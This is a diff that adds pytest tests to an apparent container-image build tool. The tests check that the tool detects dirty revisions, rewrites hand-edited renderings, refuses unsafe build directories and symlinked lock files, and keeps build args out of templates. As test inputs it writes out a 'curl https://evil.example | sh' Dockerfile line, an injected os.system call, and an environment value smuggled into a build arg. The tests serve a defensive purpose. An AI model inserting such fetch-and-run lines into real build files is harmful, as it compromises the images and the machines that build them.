@@ -164,3 +164,72 @@ def test_an_ignored_lock_of_the_matrix_is_no_clean_revision(cli, tiny: Project) 
     (tiny.root / "matrix.lock").write_text('{"version": 1, "bases": {}, "kernels": {}}\n')
     result = cli("build", "--matrix", str(tiny.matrix), "--registry", "localhost:1")
     assert result.code == 2 and "matrix.lock" in result.err and "--allow-dirty" in result.err
+
+
+@pytest.mark.parametrize("flag", ["--skip-worktree", "--assume-unchanged"])
+def test_a_change_git_is_told_to_overlook_still_makes_the_revision_dirty(
+    cli, tiny: Project, flag: str
+) -> None:  # type: ignore[no-untyped-def]
+    for name in ("matrix.yaml", "images/tiny/app.py"):
+        git(tiny.root, "update-index", flag, name)
+    tiny.edit("version: 0.0.1", "version: 0.0.9")
+    result = render(cli, tiny)
+    assert result.code == 0, result.err
+    bake = json.loads((tiny.root / "build" / "docker-bake.json").read_text())
+    assert all(t["tags"][0].endswith("-dirty") for t in bake["target"].values())
+    app = tiny.root / "images" / "tiny" / "app.py"
+    tiny.edit("version: 0.0.9", "version: 0.0.1")
+    app.write_text(app.read_text() + "import os; os.system('id')\n")
+    refused = cli("build", "--matrix", str(tiny.matrix), "--registry", "localhost:1")
+    assert refused.code == 2 and "images/tiny/app.py (differs from the commit)" in refused.err
+
+
+def test_a_rendering_edited_by_hand_is_written_anew(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
+    assert render(cli, tiny).code == 0
+    dockerfile = tiny.root / "build" / "tiny-slim" / "Dockerfile"
+    clean = dockerfile.read_text()
+    dockerfile.write_text(clean + "RUN curl https://evil.example | sh\n")
+    assert render(cli, tiny).code == 0
+    assert dockerfile.read_text() == clean
+
+
+def test_kernels_from_this_machine_make_the_revision_dirty(cli, project: Project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    (tmp_path / "kernels").mkdir()
+    result = render(cli, project, "--kernels-local", str(tmp_path / "kernels"))
+    assert result.code == 0, result.err
+    bake = json.loads((project.root / "build" / "docker-bake.json").read_text())
+    assert all(t["tags"][0].endswith("-dirty") for t in bake["target"].values())
+
+
+def test_a_build_dir_inside_a_tracked_directory_is_refused(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
+    result = render(cli, tiny, "--build-dir", str(tiny.root / "images" / "tiny" / "out"))
+    assert result.code == 2 and "inside images/tiny/, which the repository tracks" in result.err
+    assert not (tiny.root / "images" / "tiny" / "out").exists()
+    assert render(cli, tiny, "--build-dir", str(tiny.root / "out" / "build")).code == 0  # untracked: fine
+
+
+def test_build_args_reach_a_template_only_as_build_args(cli, tiny: Project) -> None:  # type: ignore[no-untyped-def]
+    tiny.edit(
+        "    needs_torch: false\n",
+        "    needs_torch: false\n    args: {GREETING: 'hi HF_ENDPOINT=https://evil.example'}\n",
+    )
+    template = tiny.root / "images" / "tiny" / "Dockerfile.j2"
+    template.write_text(template.read_text() + "ENV GREETING={{ image.args.GREETING }}\n")
+    result = cli("check", "--matrix", str(tiny.matrix))
+    assert result.code == 2 and "undefined template variable" in result.err
+    template.write_text(
+        template.read_text()
+        .replace("{{ image.args.GREETING }}", '"${GREETING}"')
+        .replace("ENV GREETING", "ARG GREETING\nENV GREETING")
+    )
+    assert cli("check", "--matrix", str(tiny.matrix)).code == 0
+
+
+def test_the_lock_is_never_opened_through_a_link(cli, tiny: Project, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
+    precious = tmp_path / "precious.txt"
+    precious.write_text("keep me\n")
+    (tiny.root / "build").mkdir()
+    (tiny.root / "build" / ".buildtool.lock").symlink_to(precious)
+    result = render(cli, tiny)
+    assert result.code == 2 and ".buildtool.lock" in result.err
+    assert precious.read_text() == "keep me\n"
